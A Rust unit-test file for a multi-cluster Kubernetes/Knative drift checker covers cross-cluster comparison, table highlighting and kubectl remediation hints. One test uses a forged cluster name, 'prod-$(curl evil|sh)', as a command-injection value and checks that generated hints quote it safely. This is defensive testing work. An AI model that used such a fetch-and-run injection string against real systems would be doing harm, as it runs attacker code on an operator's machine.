//! The fleet module's unit tests: the comparison, the hints and facts, the table, the group
//! model.

use super::hint::MAX_FACT_VALUE;
use super::*;
use serde_json::{json, Map, Value};

fn members(views: &[(&str, Option<Value>)]) -> Vec<(String, Option<Value>)> {
    views
        .iter()
        .map(|(cluster, view)| (cluster.to_string(), view.clone()))
        .collect()
}

#[test]
fn comparison_cases() {
    let autoscaler = json!({"data": {"max-scale": "0", "scale-to-zero-grace-period": "30s"},
        "metadata": {"labels": {"app.kubernetes.io/version": "1.14.0"}}});
    let mut other_key = autoscaler.clone();
    other_key["data"]["max-scale"] = json!("10");
    let mut extra_key = autoscaler.clone();
    extra_key["data"]["enable-scale-to-zero"] = json!("false");
    let mut skew = autoscaler.clone();
    skew["metadata"]["labels"]["app.kubernetes.io/version"] = json!("1.15.1");
    // (case, members, ignore paths, expected (path, values)).
    type Case<'a> = (
        &'a str,
        Vec<(&'a str, Option<Value>)>,
        Vec<String>,
        Vec<(&'a str, Vec<Option<Value>>)>,
    );
    let cases: Vec<Case> = vec![
        (
            "alike",
            vec![
                ("a", Some(autoscaler.clone())),
                ("b", Some(autoscaler.clone())),
            ],
            vec![],
            vec![],
        ),
        (
            "one member",
            vec![("a", Some(autoscaler.clone()))],
            vec![],
            vec![],
        ),
        (
            "held by none",
            vec![("a", None), ("b", None)],
            vec![],
            vec![],
        ),
        (
            "a key differs",
            vec![
                ("a", Some(autoscaler.clone())),
                ("b", Some(other_key.clone())),
            ],
            vec![],
            vec![("/data/max-scale", vec![Some(json!("0")), Some(json!("10"))])],
        ),
        (
            "a key only one holds, both ways",
            vec![
                ("a", Some(extra_key.clone())),
                ("b", Some(autoscaler.clone())),
            ],
            vec![],
            vec![(
                "/data/enable-scale-to-zero",
                vec![Some(json!("false")), None],
            )],
        ),
        (
            "version skew",
            vec![("a", Some(autoscaler.clone())), ("b", Some(skew.clone()))],
            vec![],
            vec![(
                "/metadata/labels/app.kubernetes.io~1version",
                vec![Some(json!("1.14.0")), Some(json!("1.15.1"))],
            )],
        ),
        (
            "missing from one",
            vec![
                ("a", Some(autoscaler.clone())),
                ("b", None),
                ("c", Some(other_key.clone())),
            ],
            vec![],
            vec![
                (
                    "",
                    vec![Some(json!("present")), None, Some(json!("present"))],
                ),
                ("/data/max-scale", vec![Some(json!("0")), Some(json!("10"))]),
            ],
        ),
        (
            "ignored path prefix",
            vec![
                ("a", Some(autoscaler.clone())),
                ("b", Some(other_key.clone())),
            ],
            vec!["/data".to_string()],
            vec![],
        ),
        (
            "ignored is a prefix of segments, not of text",
            vec![
                ("a", Some(autoscaler.clone())),
                ("b", Some(other_key.clone())),
            ],
            vec!["/data/max".to_string()],
            vec![("/data/max-scale", vec![Some(json!("0")), Some(json!("10"))])],
        ),
        (
            "array by index",
            vec![
                ("a", Some(json!({"spec": {"x": [1, 2]}}))),
                ("b", Some(json!({"spec": {"x": [1]}}))),
            ],
            vec![],
            vec![("/spec/x/1", vec![Some(json!(2)), None])],
        ),
    ];
    for (name, views, ignore, expected) in cases {
        let got = compare(&members(&views), &ignore);
        let got: Vec<(String, Vec<Option<Value>>)> = got
            .into_iter()
            .map(|d| (d.path, d.values.into_iter().map(|(_, v)| v).collect()))
            .collect();
        let expected: Vec<(String, Vec<Option<Value>>)> = expected
            .into_iter()
            .map(|(p, v)| (p.to_string(), v))
            .collect();
        assert_eq!(got, expected, "{name}");
    }
}

#[test]
fn describe_groups_clusters_by_value_and_the_hint_patches_the_minority() {
    let divergence = Divergence {
        path: "/data/max-scale".into(),
        values: vec![
            ("prod-eu".into(), Some(json!("0"))),
            ("prod-us".into(), Some(json!("10"))),
            ("staging".into(), Some(json!("0"))),
        ],
    };
    assert_eq!(
        divergence.describe(),
        "\"0\" in prod-eu, staging; \"10\" in prod-us"
    );
    let object = FleetObject {
        api_version: "v1".into(),
        kind: "ConfigMap".into(),
        namespace: "knative-serving".into(),
        name: "config-autoscaler".into(),
    };
    assert_eq!(object.key(), "ConfigMap/knative-serving/config-autoscaler");
    assert_eq!(
        hint(&object, std::slice::from_ref(&divergence)).unwrap(),
        "kubectl --context prod-us -n knative-serving patch configmap config-autoscaler --type merge -p '{\"data\":{\"max-scale\":\"0\"}}'"
    );
    assert_eq!(
        summary(&object, "fleet group prod", &[divergence]),
        "ConfigMap/knative-serving/config-autoscaler differs across fleet group prod: /data/max-scale is \"0\" in prod-eu, staging; \"10\" in prod-us"
    );
}

/// (path, cells as (value, reported, highlighted), differs) of each row.
type RowText = (String, Vec<(Option<Value>, bool, bool)>, bool);

fn table(views: &[(&str, Held)]) -> Vec<RowText> {
    let views: Vec<(String, Held)> = views
        .iter()
        .map(|(cluster, held)| (cluster.to_string(), held.clone()))
        .collect();
    rows(&views, &[])
        .into_iter()
        .map(|row| {
            let cells = row
                .values
                .into_iter()
                .map(|cell| (cell.value, cell.reported, cell.highlighted))
                .collect();
            (row.path, cells, row.differs)
        })
        .collect()
}

#[test]
fn the_table_has_a_column_per_member_and_differing_rows_first() {
    let got = table(&[
        ("a", Held::Copy(json!({"data": {"k": "1", "same": "x"}}))),
        ("b", Held::Copy(json!({"data": {"k": "2", "same": "x"}}))),
        ("c", Held::Missing),
        ("d", Held::NotReported),
    ]);
    let present = Some(json!("present"));
    assert_eq!(
        got,
        vec![
            (
                "".into(),
                vec![
                    (present.clone(), true, false),
                    (present.clone(), true, false),
                    (None, true, true),
                    (None, false, false),
                ],
                true
            ),
            // A tie: no majority, every compared cell is highlighted; the missing member
            // is shown absent (on the row above), the unreported one not reported.
            (
                "/data/k".into(),
                vec![
                    (Some(json!("1")), true, true),
                    (Some(json!("2")), true, true),
                    (None, true, false),
                    (None, false, false),
                ],
                true
            ),
            (
                "/data/same".into(),
                vec![
                    (Some(json!("x")), true, false),
                    (Some(json!("x")), true, false),
                    (None, true, false),
                    (None, false, false),
                ],
                false
            ),
        ]
    );
}

#[test]
fn only_the_cells_that_differ_from_the_majority_are_highlighted() {
    let got = table(&[
        ("a", Held::Copy(json!({"data": {"k": "1"}}))),
        ("b", Held::Copy(json!({"data": {"k": "2"}}))),
        ("c", Held::Copy(json!({"data": {"k": "1"}}))),
    ]);
    let highlighted: Vec<bool> = got[0].1.iter().map(|cell| cell.2).collect();
    assert_eq!(highlighted, [false, true, false]);
}

#[test]
fn a_member_that_never_reported_the_object_is_neither_missing_nor_compared() {
    let views = vec![
        ("a".to_string(), Held::Copy(json!({"data": {"k": "1"}}))),
        ("b".to_string(), Held::NotReported),
    ];
    assert_eq!(
        evidenced(&views),
        vec![("a".to_string(), Some(json!({"data": {"k": "1"}})))]
    );
    assert!(compare(&evidenced(&views), &[]).is_empty());
    // The table shows no whole-object row: nobody is known to lack it.
    let got = table(&[
        ("a", Held::Copy(json!({"data": {"k": "1"}}))),
        ("b", Held::NotReported),
    ]);
    assert_eq!(
        got,
        vec![(
            "/data/k".to_string(),
            vec![(Some(json!("1")), true, false), (None, false, false)],
            false
        )]
    );
}

#[test]
fn every_differing_path_is_marked_in_the_table_beyond_the_alerts_cap() {
    let many = |value: &str| {
        let data: Map<String, Value> = (0..MAX_DIVERGENCES + 10)
            .map(|i| (format!("k{i:03}"), json!(value)))
            .collect();
        json!({ "data": data })
    };
    let views = vec![
        ("a".to_string(), Held::Copy(many("1"))),
        ("b".to_string(), Held::Copy(many("2"))),
    ];
    assert_eq!(compare(&evidenced(&views), &[]).len(), MAX_DIVERGENCES);
    let table = rows(&views, &[]);
    assert_eq!(table.len(), MAX_DIVERGENCES + 10);
    assert!(table.iter().all(|row| row.differs));
}

#[test]
fn quantities_compare_by_value() {
    let cpu = |value: &str| json!({"spec": {"template": {"spec": {"containers": [{"resources": {"limits": {"cpu": value}}}]}}}});
    let same = members(&[("a", Some(cpu("1000m"))), ("b", Some(cpu("1")))]);
    assert!(compare(&same, &[]).is_empty());
    let other = members(&[("a", Some(cpu("500m"))), ("b", Some(cpu("1")))]);
    assert_eq!(compare(&other, &[]).len(), 1);
}

fn state(cluster: &str, mut object: Value) -> ObjectState {
    object["metadata"]["resourceVersion"] = json!("1");
    let object = crate::decode::shape::parse_object(object).expect("object");
    ObjectState::from_object(cluster, &object, 0)
}

#[test]
fn what_tools_and_the_api_server_set_per_cluster_is_not_compared() {
    let behavioural = |key: &str| key.starts_with("autoscaling.knative.dev/");
    let bookkeeping = |key: &str| key.starts_with("client.knative.dev/");
    let ksvc = |cluster: &str, extra: Value| {
        let mut object = json!({
            "apiVersion": "serving.knative.dev/v1", "kind": "Service",
            "metadata": {"name": "web", "namespace": "apps", "uid": format!("{cluster}-web")},
            "spec": {"template": {"metadata": {
                "annotations": {"autoscaling.knative.dev/min-scale": "1"}},
                "spec": {"containers": [{"image": "web:1"}]}}}
        });
        let metadata = &mut object["spec"]["template"]["metadata"];
        if let Value::Object(extra) = extra {
            for (key, value) in extra {
                metadata["annotations"][key] = value;
            }
        }
        comparable(&state(cluster, object), &behavioural, &bookkeeping)
    };
    // kn stamps the template with its own annotations; they differ per cluster.
    let a = ksvc(
        "a",
        json!({"client.knative.dev/updateTimestamp": "2026-01-01T00:00:00Z"}),
    );
    let b = ksvc(
        "b",
        json!({"client.knative.dev/updateTimestamp": "2026-02-02T00:00:00Z"}),
    );
    assert!(compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]).is_empty());
    // A behavioural key under the template is still compared, and so is any other key
    // that is not bookkeeping (what every Revision gets: an Istio sidecar switch).
    let a = ksvc("a", json!({}));
    let b = ksvc("b", json!({"autoscaling.knative.dev/min-scale": "3"}));
    let found = compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]);
    assert_eq!(
        found[0].path,
        "/spec/template/metadata/annotations/autoscaling.knative.dev~1min-scale"
    );
    let a = ksvc("a", json!({"sidecar.istio.io/inject": "true"}));
    let b = ksvc("b", json!({}));
    let found = compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]);
    assert_eq!(
        found[0].path,
        "/spec/template/metadata/annotations/sidecar.istio.io~1inject"
    );
    // A core Service's IPs and node ports are the API server's, per cluster.
    let service = |cluster: &str, ip: &str, node_port: u16| {
        comparable(
            &state(
                cluster,
                json!({"apiVersion": "v1", "kind": "Service",
                    "metadata": {"name": "gw", "namespace": "apps", "uid": format!("{cluster}-gw")},
                    "spec": {"type": "LoadBalancer", "clusterIP": ip, "clusterIPs": [ip],
                        "ipFamilies": ["IPv4"], "ipFamilyPolicy": "SingleStack",
                        "healthCheckNodePort": node_port,
                        "ports": [{"port": 80, "nodePort": node_port}]}}),
            ),
            &behavioural,
            &bookkeeping,
        )
    };
    let views = members(&[
        ("a", Some(service("a", "10.0.0.1", 30001))),
        ("b", Some(service("b", "10.9.9.9", 31999))),
    ]);
    assert!(
        compare(&views, &[]).is_empty(),
        "{:?}",
        compare(&views, &[])
    );
}

fn object(kind: &str) -> FleetObject {
    FleetObject {
        api_version: "v1".into(),
        kind: kind.into(),
        namespace: "knative-serving".into(),
        name: "config-x".into(),
    }
}

fn divergence(path: &str, values: &[(&str, Option<Value>)]) -> Divergence {
    Divergence {
        path: path.into(),
        values: values
            .iter()
            .map(|(cluster, value)| (cluster.to_string(), value.clone()))
            .collect(),
    }
}

#[test]
fn hints_never_carry_a_hash_nor_patch_a_version_label() {
    let hashed = divergence(
        "/data/tls.key",
        &[
            ("a", Some(json!("sha256:0123456789ab"))),
            ("b", Some(json!("sha256:0123456789ab"))),
            ("c", Some(json!("sha256:ba9876543210"))),
        ],
    );
    let hint = hint(&object("Secret"), &[hashed]).unwrap();
    assert!(!hint.contains("sha256:"), "{hint}");
    assert!(hint.starts_with("copy key tls.key from cluster a: kubectl --context c -n knative-serving patch secret config-x --type merge -p \"$(kubectl --context a -n knative-serving get secret config-x -o json | jq -c '{data: {\"tls.key\": .data[\"tls.key\"]}}')\""), "{hint}");
    // A ConfigMap's binaryData is hashed too.
    let binary = divergence(
        "/data/logo",
        &[
            ("a", Some(json!("sha256:0123456789ab"))),
            ("b", Some(json!("sha256:0123456789ab"))),
            ("c", None),
        ],
    );
    let hint = super::hint(&object("ConfigMap"), &[binary]).unwrap();
    assert!(
        !hint.contains("sha256:") && hint.contains(".binaryData["),
        "{hint}"
    );
    let skew = divergence(
        "/metadata/labels/app.kubernetes.io~1version",
        &[
            ("a", Some(json!("1.15.1"))),
            ("b", Some(json!("1.14.0"))),
            ("c", Some(json!("1.15.1"))),
        ],
    );
    assert_eq!(
        super::hint(&object("ConfigMap"), &[skew]).unwrap(),
        "upgrade Knative in b to 1.15.1"
    );
}

#[test]
fn a_tie_names_both_directions() {
    let tie = divergence(
        "/data/max-scale",
        &[("a", Some(json!("1"))), ("b", Some(json!("2")))],
    );
    assert_eq!(
        hint(&object("ConfigMap"), &[tie]).unwrap(),
        "no majority for /data/max-scale (\"1\" in a; \"2\" in b): align either way\n\
         kubectl --context b -n knative-serving patch configmap config-x --type merge -p '{\"data\":{\"max-scale\":\"1\"}}'\n\
         or kubectl --context a -n knative-serving patch configmap config-x --type merge -p '{\"data\":{\"max-scale\":\"2\"}}'"
    );
    let skew = divergence(
        "/metadata/labels/app.kubernetes.io~1version",
        &[("a", Some(json!("1.15.1"))), ("b", Some(json!("1.14.0")))],
    );
    let hint = hint(&object("ConfigMap"), &[skew]).unwrap();
    assert!(
        hint.contains("upgrade Knative in b to 1.15.1")
            && hint.contains("or upgrade Knative in a to 1.14.0"),
        "{hint}"
    );
}

#[test]
fn a_missing_object_is_copied_without_server_fields_or_deleted_from_a_lone_holder() {
    let present = Some(json!(PRESENT));
    let missing_from_one = divergence(
        WHOLE_OBJECT,
        &[("a", present.clone()), ("b", None), ("c", present.clone())],
    );
    assert_eq!(
        hint(&object("ConfigMap"), &[missing_from_one]).unwrap(),
        "add it to b from Git, or copy it from a: kubectl --context a -n knative-serving get configmap config-x -o json | jq 'del(.metadata.uid,.metadata.resourceVersion,.metadata.creationTimestamp,.metadata.generation,.metadata.managedFields,.metadata.ownerReferences,.status)' | kubectl --context b apply -f -"
    );
    let only_one = divergence(
        WHOLE_OBJECT,
        &[("a", present.clone()), ("b", None), ("c", None)],
    );
    let hint = hint(&object("ConfigMap"), &[only_one]).unwrap();
    let lines: Vec<&str> = hint.lines().collect();
    assert_eq!(
        lines[0],
        "ConfigMap/knative-serving/config-x is in a but not in b, c: add it to b, c or delete it from a"
    );
    assert!(lines[1].starts_with("add it to b from Git, or copy it from a: "));
    assert!(lines[2].starts_with("add it to c from Git, or copy it from a: "));
    assert_eq!(
        lines[3],
        "or delete it from a: kubectl --context a -n knative-serving delete configmap config-x"
    );
}

#[test]
fn hints_quote_names_and_fit_the_object() {
    // A forged cluster name matching a group's glob cannot run anything from a pasted hint.
    let forged = "prod-$(curl evil|sh)";
    let key = divergence(
        "/data/max-scale",
        &[
            ("prod-eu", Some(json!("1"))),
            ("prod-us", Some(json!("1"))),
            (forged, Some(json!("2"))),
        ],
    );
    let text = hint(&object("ConfigMap"), &[key]).unwrap();
    assert!(
        text.starts_with("kubectl --context 'prod-$(curl evil|sh)' -n knative-serving patch"),
        "{text}"
    );
    // A core Service copied to another cluster leaves its allocated addresses behind.
    let mut service = object("Service");
    service.namespace = "apps".into();
    let present = Some(json!(PRESENT));
    let missing = divergence(
        WHOLE_OBJECT,
        &[("a", present.clone()), ("b", None), ("c", present)],
    );
    let text = hint(&service, &[missing]).unwrap();
    assert!(
        text.contains(".status,.spec.clusterIP,.spec.clusterIPs,.spec.healthCheckNodePort,.spec.ports[]?.nodePort)"),
        "{text}"
    );
    // An app's own version label is not a Knative release.
    let skew = divergence(
        "/metadata/labels/app.kubernetes.io~1version",
        &[
            ("a", Some(json!("2.0"))),
            ("b", Some(json!("2.0"))),
            ("c", Some(json!("1.9"))),
        ],
    );
    let mut app = object("ConfigMap");
    app.namespace = "apps".into();
    assert_eq!(
        hint(&app, &[skew]).unwrap(),
        "deploy version 2.0 of it in c"
    );
}

#[test]
fn the_values_fact_cuts_long_values() {
    let long = "x".repeat(5000);
    let fact = values_fact(&[divergence(
        "/data/k",
        &[("a", Some(json!(long))), ("b", None)],
    )]);
    let parsed: Value = serde_json::from_str(&fact).unwrap();
    let cut = parsed[0]["values"]["a"].as_str().unwrap();
    assert_eq!(cut.chars().count(), MAX_FACT_VALUE + 1);
    assert!(cut.ends_with('…'));
    assert_eq!(parsed[0]["values"]["b"], Value::Null);
}

#[test]
fn members_and_selection() {
    let group = FleetGroup {
        name: "prod".into(),
        clusters: vec!["prod-*".into(), "staging".into()],
        compare: vec![Compared {
            api_version: "v1".into(),
            kind: "ConfigMap".into(),
            namespace: "knative-serving".into(),
            name: "config-*".into(),
        }],
        ignore_paths: vec![],
        severity: Severity::Warning,
        grace: Duration::from_secs(300),
    };
    assert!(group.has_member("prod-eu") && group.has_member("staging"));
    assert!(!group.has_member("dev") && !group.has_member("fleet:prod-x"));
    assert!(group.compares("v1", "ConfigMap", "knative-serving", "config-network"));
    assert!(!group.compares("v1", "ConfigMap", "default", "config-network"));
    assert!(!group.compares("v1", "Secret", "knative-serving", "config-network"));
}
